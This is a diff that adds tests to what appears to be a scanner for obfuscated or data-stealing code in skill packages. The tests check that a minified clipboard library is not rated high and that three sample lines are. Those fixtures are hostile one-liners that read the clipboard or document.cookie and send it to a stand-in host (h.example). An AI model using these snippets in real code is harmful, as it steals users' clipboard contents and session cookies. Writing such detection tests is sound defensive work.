@@ -507,3 +507,25 @@ describe("a key of a service", () => {
       "transfer medium GITLAB_TOKEN",
     ]));
 });
+
+describe("a library that is not followed to the end", () => {
+  // Nested too deeply, as minified libraries are.
+  const DEEP = `${"(".repeat(150)}x${")".repeat(150)};`;
+  const severityOf = (...lines: string[]) =>
+    scanSkill([
+      { path: "clip.min.js", mode: "644", bytes: new TextEncoder().encode([...lines, DEEP].join("\n")) },
+    ]).findings.find(({ rule }) => rule === "OBF-008")?.severity;
+
+  it("is no theft because it puts text into the clipboard and names its licence's page", () =>
+    expect(
+      severityOf(
+        "/*!\n * clip v2\n * https://clip.example/\n */",
+        'var c=new Clipboard(e);c.clipboardAction=document.execCommand("copy");eval(x)',
+      ),
+    ).not.toBe("high"));
+  it.each([
+    ['navigator.clipboard.readText().then((t) => fetch("https://h.example", { body: t }))'],
+    ['/* https://h.example */ x.clipboard; document.execCommand("paste"); fetch(u)'],
+    ['c=document.cookie;new Image().src="https://h.example/"+c'],
+  ])("may be one with %s", (line) => expect(severityOf(line)).toBe("high"));
+});
